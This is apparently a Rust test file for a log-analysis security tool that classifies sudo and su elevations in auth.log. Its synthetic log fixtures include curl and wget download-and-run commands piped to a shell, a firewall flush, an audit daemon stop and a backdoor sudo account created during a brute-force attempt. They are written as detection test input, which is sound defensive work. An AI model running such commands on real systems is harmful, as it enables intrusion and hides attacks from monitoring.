//! sudo commands and su sessions: elevations, classified by the shared command classifier,
//! and the `logs.sudo-*` / `logs.su-*` / `logs.new-account-elevation` findings.

use ferret_core::{Control, Severity};
use ferret_logs::{analyze, Analysis, AnalyzeOptions, Input, Via};

fn run(text: &str) -> Analysis {
    let mut o = AnalyzeOptions::default();
    o.year = Some(2024);
    let a = analyze(
        [Input::reader(text.as_bytes(), "auth.log")],
        &o,
        &Control::new(),
    );
    o.jobs = 3;
    let b = analyze(
        [Input::reader(text.as_bytes(), "auth.log")],
        &o,
        &Control::new(),
    );
    assert_eq!(a.elevations, b.elevations, "jobs 3 = jobs 1");
    assert_eq!(a.outcome.findings, b.outcome.findings, "jobs 3 = jobs 1");
    a
}

fn find<'a>(a: &'a Analysis, id: &str, subject: &str) -> &'a ferret_core::Finding {
    a.outcome
        .findings
        .iter()
        .find(|f| f.id == id && f.subject == subject)
        .unwrap_or_else(|| {
            panic!(
                "{id} {subject} missing: {:?}",
                a.outcome
                    .findings
                    .iter()
                    .map(|f| (&f.id, &f.subject))
                    .collect::<Vec<_>>()
            )
        })
}

#[test]
fn dangerous_sudo_commands_are_findings_grouped_per_user_and_kind() {
    let a = run("\
Mar  1 10:00:00 web sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls /root
Mar  1 10:01:00 web sudo:    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl -fsSL http://203.0.113.7/x.sh | sh
Mar  1 10:02:00 web sudo:    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget -qO- http://203.0.113.7/y | bash
Mar  1 10:03:00 web sudo:    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/iptables -F
Mar  1 10:04:00 web sudo:    bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chpasswd
");
    // Every command is an elevation, the ordinary one too.
    assert_eq!(a.elevations.len(), 5);
    assert!(a.elevations.iter().all(|e| e.via == Via::Sudo && e.success));
    assert_eq!(
        a.elevations[0].command.as_deref(),
        Some(&b"/bin/ls /root"[..])
    );
    assert!(a.elevations[0].kinds.is_empty());
    // Two download-and-run commands: one finding, both lines as evidence.
    let f = find(&a, "logs.sudo-command", "alice");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("downloads and runs code"), "{}", f.title);
    let lines: Vec<Option<u64>> = f.evidence.iter().map(|e| e.line).collect();
    assert_eq!(lines, [Some(2), Some(3)]);
    assert!(f.evidence[0]
        .excerpt
        .as_deref()
        .unwrap()
        .starts_with("2024-03-01T10:01:00Z alice as root: /bin/sh -c curl"));
    assert!(f.attack.iter().any(|a| a == "T1548.003"));
    assert!(f.attack.iter().any(|a| a == "T1105"));
    // The firewall flush is its own finding (another problem), high.
    let fw: Vec<_> = a
        .outcome
        .findings
        .iter()
        .filter(|f| f.id == "logs.sudo-command" && f.subject == "alice")
        .collect();
    assert_eq!(fw.len(), 2);
    assert!(fw
        .iter()
        .any(|f| f.severity == Severity::High && f.evidence[0].line == Some(4)));
    // bob's chpasswd from a terminal: an account change, medium.
    assert_eq!(
        find(&a, "logs.sudo-command", "bob").severity,
        Severity::Medium
    );
}

#[test]
fn an_account_created_during_the_attack_ranks_higher() {
    let mut log = String::new();
    for i in 0..6 {
        log += &format!("Mar  1 10:00:0{i} web sshd[{}]: Failed password for root from 203.0.113.9 port 4{i}000 ssh2\n", 100 + i);
    }
    log += "Mar  1 10:01:00 web useradd[300]: new user: name=sysupdate, UID=1001, GID=1001, home=/home/sysupdate, shell=/bin/bash\n";
    log += "Mar  1 10:01:01 web usermod[301]: add 'sysupdate' to group 'sudo'\n";
    log += "Mar  1 10:02:00 web sshd[400]: Failed password for root from 203.0.113.9 port 50000 ssh2\n";
    log += "Mar  1 10:03:00 web sudo: sysupdate : TTY=pts/0 ; PWD=/home/sysupdate ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd\n";
    log += "Mar  1 10:04:00 web sudo: sysupdate : TTY=pts/0 ; PWD=/home/sysupdate ; USER=root ; COMMAND=/bin/ls\n";
    log += "Mar  1 10:05:00 web su[500]: pam_unix(su:session): session opened for user root(uid=0) by sysupdate(uid=1001)\n";
    let a = run(&log);
    // security-agent-stop is high; by an account created in the window: critical.
    let f = find(&a, "logs.sudo-command", "sysupdate");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f
        .detail
        .as_deref()
        .unwrap()
        .contains("inside the attack window"));
    let n = find(&a, "logs.new-account-elevation", "sysupdate");
    assert_eq!(n.severity, Severity::High);
    // The creation line, then the two sudo lines and the su session.
    let lines: Vec<Option<u64>> = n.evidence.iter().map(|e| e.line).collect();
    assert_eq!(lines, [Some(7), Some(10), Some(11), Some(12)]);
    let su = a.elevations.iter().find(|e| e.via == Via::Su).unwrap();
    assert_eq!(
        (su.user.as_slice(), su.target.as_deref()),
        (&b"sysupdate"[..], Some(&b"root"[..]))
    );
    // Outside the window (no hostile event after it), the same account is ordinary.
    let quiet = "\
Mar  1 09:00:00 web useradd[300]: new user: name=dev, UID=1002, GID=1002, home=/home/dev, shell=/bin/bash
Mar  1 09:03:00 web sudo: dev : TTY=pts/0 ; PWD=/home/dev ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd
";
    let a = run(quiet);
    assert_eq!(
        find(&a, "logs.sudo-command", "dev").severity,
        Severity::High
    );
    assert!(a
        .outcome
        .findings
        .iter()
        .all(|f| f.id != "logs.new-account-elevation"));
}

#[test]
fn sudo_and_su_failures_are_grouped() {
    let a = run("\
Mar  1 10:00:00 web sudo:    eve : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/bash
Mar  1 10:01:00 web sudo:    eve : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/bash
Mar  1 10:02:00 web su[7]: FAILED SU (to root) eve on pts/0
Mar  1 10:02:05 web su[8]: pam_unix(su:auth): authentication failure; logname=eve uid=1000 euid=0 tty=pts/0 ruser=eve rhost=  user=root
Mar  1 10:03:00 web su[9]: (to root) alice on pts/1
Mar  1 10:03:00 web su[9]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)
");
    let f = find(&a, "logs.sudo-auth-failure", "eve");
    assert_eq!(f.evidence.len(), 2);
    assert!(f
        .detail
        .as_deref()
        .unwrap()
        .starts_with("4 incorrect password attempts"));
    let s = find(&a, "logs.su-failure", "eve");
    assert_eq!(s.evidence.len(), 2);
    // alice's su: two lines, one session.
    let ok: Vec<_> = a
        .elevations
        .iter()
        .filter(|e| e.via == Via::Su && e.success)
        .collect();
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].user, b"alice");
    // The refused sudo commands are elevations that did not happen.
    assert_eq!(
        a.elevations
            .iter()
            .filter(|e| e.via == Via::Sudo && !e.success)
            .count(),
        2
    );
}

#[test]
fn excerpts_mask_secrets() {
    let a = run("\
Mar  1 10:00:00 web sudo: alice : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/sh -c echo 'root:Hunter2' | chpasswd
");
    let f = find(&a, "logs.sudo-command", "alice");
    let x = f.evidence[0].excerpt.as_deref().unwrap();
    assert!(!x.contains("Hunter2"), "{x}");
    assert!(x.contains("root:***"), "{x}");
}

/// elastic-beats' expected fields for its sudo lines: each is an elevation with the same user,
/// run-as user, working directory and command, at the same line.
#[test]
#[cfg_attr(
    not(ferret_testdata),
    ignore = "needs FERRET_TESTDATA (../shared/data)"
)]
fn elastic_sudo_fields() {
    let text = std::fs::read(ferret_testkit::testdata("elastic-beats/test.log")).unwrap();
    let expected: serde_json::Value = serde_json::from_slice(
        &std::fs::read(ferret_testkit::testdata(
            "elastic-beats/test.log-expected.OLD-004c0ce5.json",
        ))
        .unwrap(),
    )
    .unwrap();
    let mut o = AnalyzeOptions::default();
    o.year = Some(2018);
    let a = analyze([Input::reader(&text[..], "test.log")], &o, &Control::new());
    // Line starts, to turn elastic's byte offsets into line numbers.
    let mut starts = vec![0usize];
    for (i, c) in text.iter().enumerate() {
        if *c == b'\n' {
            starts.push(i + 1);
        }
    }
    let mut checked = 0;
    for rec in expected.as_array().unwrap() {
        let Some(cmd) = rec.get("system.auth.sudo.command").and_then(|v| v.as_str()) else {
            continue;
        };
        let off = rec["offset"].as_u64().unwrap() as usize;
        // (The offsets after a multi-byte character are one byte late: the line is the
        // last one starting at or before the offset.)
        let line = starts.iter().rposition(|s| *s <= off).unwrap() as u64 + 1;
        let e = a
            .elevations
            .iter()
            .find(|e| e.line == line)
            .unwrap_or_else(|| panic!("line {line}: {cmd}"));
        assert_eq!(e.command.as_deref(), Some(cmd.as_bytes()));
        assert_eq!(
            e.user.as_slice(),
            rec["system.auth.user"].as_str().unwrap().as_bytes()
        );
        assert_eq!(
            e.target.as_deref(),
            rec.get("system.auth.sudo.user")
                .and_then(|v| v.as_str())
                .map(str::as_bytes)
        );
        // (A refused command's line is kept without its working directory.)
        assert_eq!(
            e.pwd.as_deref(),
            rec.get("system.auth.sudo.pwd")
                .filter(|_| e.success)
                .and_then(|v| v.as_str())
                .map(str::as_bytes)
        );
        checked += 1;
    }
    assert!(checked >= 2, "{checked}");
}
